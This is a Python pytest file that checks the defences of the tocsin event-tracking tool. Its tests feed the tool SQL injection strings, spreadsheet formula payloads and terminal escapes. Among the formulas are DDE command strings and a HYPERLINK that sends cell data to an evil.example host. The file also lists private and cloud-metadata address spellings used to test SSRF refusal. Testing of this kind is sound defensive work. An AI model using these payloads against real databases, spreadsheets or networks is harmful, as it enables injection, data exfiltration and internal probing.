"""Security checks across the surfaces a user or an attacker reaches: SQL built from filters, text
shown in a terminal or a spreadsheet, the API token, and fetching from non-public addresses.

Stored text comes from arbitrary web pages and JSONL dumps, so every event field here is written
as an attacker would write it."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import socket
import sqlite3
import subprocess
import sys
import time
from datetime import date, datetime
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner

from tocsin.cli import main
from tocsin.export import csv_cell
from tocsin.ingest.fetch import FetchError, fetch
from tocsin.records import (
    PEACEFUL,
    PROTESTS,
    Article,
    DocumentResult,
    Event,
    Evidence,
    Place,
    RawDocument,
    Source,
)
from tocsin.settings import Settings
from tocsin.store.base import open_store

INJECTIONS = (
    "KAZ' OR '1'='1",
    "'; DROP TABLE events; --",
    "Riots\" OR 1=1 --",
    "Protests') UNION SELECT sql, 1, 1 FROM sqlite_master --",
    "%",
    "_",
    "\\",
    "NULL",
    "*",
    "\x00",
)
FORMULAS = ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "\tstart", "\uff1dSUM(1)")  # fmt: skip
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[1A\u202eKumasi"


def _event(event_id: str, doc_id: str, sentence: str, n: int, **kw: object) -> Event:
    """The n-th of several events far apart in time and space (the store would merge close ones)."""
    place = Place(name=kw.pop("location", "Kumasi"), country="GHA", latitude=6.6885 + n, longitude=-1.6244,  # type: ignore[arg-type]
                  geonameid=2298890 + n, admin1="Ashanti")  # fmt: skip
    return Event(
        event_id=event_id, event_type=PROTESTS, sub_event_type=PEACEFUL, event_date=date(2024, 1 + 3 * n, 4),
        time_precision=1, place=place, evidence=(Evidence(doc_id, sentence, 0, len(sentence)),),
        sources=(Source(doc_id, "https://news.example/a", "t", "2024-03-05", kw.pop("outlet", "Wire")),),  # type: ignore[arg-type]
        **kw,  # type: ignore[arg-type]
    )  # fmt: skip


def _seed(db: Path) -> None:
    """Three events whose text fields carry formulas, terminal escapes and markup."""
    store = open_store(str(db))
    try:
        run = store.begin_run(["security-test"])
        results = []
        for i, (notes, outlet, issue, actors, location) in enumerate([
            (FORMULAS[0], FORMULAS[2], FORMULAS[1], (FORMULAS[3], "teachers"), "Kumasi"),
            (FORMULAS[4], "@wire", "=1+1", (FORMULAS[5],), ESCAPES),
            ("<script>alert(1)</script>", "Wire", "wages", (), "Kumasi"),
        ]):  # fmt: skip
            doc_id = f"sec-{i}"
            text = f"Hundreds of nurses marched in Kumasi on Monday. {notes}"
            raw = RawDocument(doc_id, text=text, origin="test")
            art = Article(doc_id=doc_id, text=text, paragraphs=((0, len(text)),),
                          content_hash=hashlib.sha256(text.encode()).hexdigest(),
                          published=datetime(2024, 3, 5), origin="test")  # fmt: skip
            ev = _event(f"e-sec-{i}", doc_id, text[:47], i, notes=notes, outlet=outlet, issue=issue, actors=actors,
                        location=location)  # fmt: skip
            results.append(DocumentResult(raw=raw, article=art, events=(ev,), relevance=1.0))
        store.save(results, run)
        store.finish_run(run, {})
    finally:
        store.close()


@pytest.fixture()
def seeded(tmp_path: Path) -> Path:
    db = tmp_path / "sec.db"
    _seed(db)
    return db


def _cli(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result.exit_code, result.output


def _schema(db: Path) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT type, name, sql FROM sqlite_master ORDER BY name").fetchall() + [
            conn.execute("SELECT count(*) FROM events").fetchone()
        ]


# -- SQL: every filter of `tocsin events` and `tocsin export` takes hostile strings as data -------


@pytest.mark.parametrize("command", ["events", "export"])
@pytest.mark.parametrize("option", ["--country", "--type"])
def test_injection_strings_in_every_cli_filter(seeded: Path, command: str, option: str) -> None:
    before = _schema(seeded)
    for value in INJECTIONS:
        code, out = _cli(command, "--db", str(seeded), option, value)
        assert code == 0, (option, value, out)
        assert (out == "no events\n") if command == "events" else (out == ""), (option, value, out)
    assert _schema(seeded) == before  # nothing dropped, nothing added


@pytest.mark.parametrize("option", ["--since", "--until", "--limit"])
def test_typed_cli_filters_refuse_hostile_strings(seeded: Path, option: str) -> None:
    before = _schema(seeded)
    for value in INJECTIONS[:4]:
        code, out = _cli("events", "--db", str(seeded), option, value)
        assert code == 2 and "Invalid value" in out, out  # a usage error, before any SQL
    assert _schema(seeded) == before


# -- text shown in a terminal, a spreadsheet --------------------------------------------------------


def test_the_events_table_prints_no_terminal_escapes(seeded: Path) -> None:
    code, out = _cli("events", "--db", str(seeded))
    assert code == 0 and "3 event(s)" in out
    assert not any(ch in out for ch in "\x1b\x07\u202e"), repr(out)
    assert "\ufffd]0;pwned" in out  # shown, defused


@pytest.mark.parametrize("via", ["cli", "api"])
def test_csv_export_neutralises_formulas(seeded: Path, via: str) -> None:
    if via == "cli":
        code, text = _cli("export", "--db", str(seeded), "--format", "csv")
        assert code == 0
    else:
        from fastapi.testclient import TestClient

        from tocsin.web import create_app

        with TestClient(create_app(settings=Settings(db=str(seeded)))) as client:
            text = client.get("/api/events.csv").text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 3
    for row in rows:
        for column, value in row.items():
            if value[:1] in ("=", "+", "@", "\t", "\uff1d") or (value[:1] == "-" and not _is_number(value)):
                pytest.fail(f"{column} starts a formula: {value!r}")
    by_id = {r["event_id_cnty"]: r for r in rows}
    assert by_id["e-sec-0"]["notes"] == "'" + FORMULAS[0]  # kept, readable, inert
    assert by_id["e-sec-0"]["longitude"] == "-1.6244"  # numbers stay numbers


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("-1.25", "-1.25"), ("-x", "'-x"), ("  =1", "'  =1"), ("a=b", "a=b"), (12, 12), ("", "")],
)
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected


# -- the API token: required for writes, compared in constant time, never logged or echoed ---------


def test_token_comparison_is_constant_time() -> None:
    import inspect

    from tocsin.web import app

    source = inspect.getsource(app)
    assert "hmac.compare_digest(" in source
    assert "== token" not in source and "token ==" not in source


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_the_token_is_never_logged_or_echoed(seeded: Path) -> None:
    token = "tok-" + os.urandom(12).hex()
    wrong = "guess-" + os.urandom(12).hex()
    port = _free_port()
    env = {**os.environ, "TOCSIN_API_TOKEN": token}
    proc = subprocess.Popen([sys.executable, "-m", "tocsin.cli", "serve", "--db", str(seeded), "--port", str(port)],
                            env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)  # fmt: skip
    bodies = []
    try:
        base = f"http://127.0.0.1:{port}"
        for _ in range(100):
            try:
                httpx.get(base + "/api/meta", timeout=1)
                break
            except httpx.TransportError:
                time.sleep(0.1)
        with httpx.Client(base_url=base, timeout=10) as client:
            meta = client.get("/api/meta")
            assert meta.json()["writes"] is True
            bodies.append(meta.text)
            for auth in (f"Bearer {wrong}", wrong, f"Basic {token}", f"Bearer {token}x", ""):
                r = client.post("/api/documents", json={"text": "x"}, headers={"Authorization": auth})
                assert r.status_code == 401, (auth, r.status_code)
                bodies.append(r.text + str(r.headers))
            # the right token with a body that fails validation: accepted, then 422, still not echoed
            r = client.post("/api/documents", json={"text": ""}, headers={"Authorization": f"Bearer {token}"})
            assert r.status_code == 422
            bodies.append(r.text + str(r.headers))
            bodies += [client.get(p).text for p in ("/openapi.json", "/api/events", "/docs")]
    finally:
        proc.terminate()
        log, _ = proc.communicate(timeout=20)
    assert "Uvicorn running" in log or "Application startup complete" in log, log
    for secret in (token, wrong):
        assert secret not in log
        assert not any(secret in b for b in bodies)
    code, help_text = _cli("serve", "--help")
    assert token not in help_text


# -- fetching: every spelling of a non-public address is refused ------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://127.1/", "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/",
        "http://localhost./", "http://[::ffff:7f00:1]/", "http://[::]/", "http://0/",
        "http://169.254.169.254/latest/meta-data/", "http://[fd00::1]/", "http://100.64.0.1/",
        "http://192.0.0.8/", "http://224.0.0.1/", "http://255.255.255.255/", "http://[fec0::1]/",
        "http://[64:ff9b::7f00:1]/", "http://[2002:a00:1::1]/", "http://[ff02::1]/", "http://[64:ff9b:1::1]/",
    ],
)  # fmt: skip
def test_every_spelling_of_a_private_address_is_refused(url: str) -> None:
    with pytest.raises(FetchError, match="refusing|cannot resolve|invalid URL"):
        fetch(url, Settings())


def test_rejects_lines_are_printable() -> None:
    from tocsin.records import Rejected
    from tocsin.report import rejects_lines

    out = rejects_lines([Rejected("id\x1b]0;x\x07", "f.jsonl:1\ttab", "line 1: bad\nnext"), Rejected("ok", "o", "r")])
    assert out.count("\n") == 2 and out.splitlines()[1] == "ok\to\tr"
    assert not any(ch in out for ch in "\x1b\x07") and out.splitlines()[0].count("\t") == 2
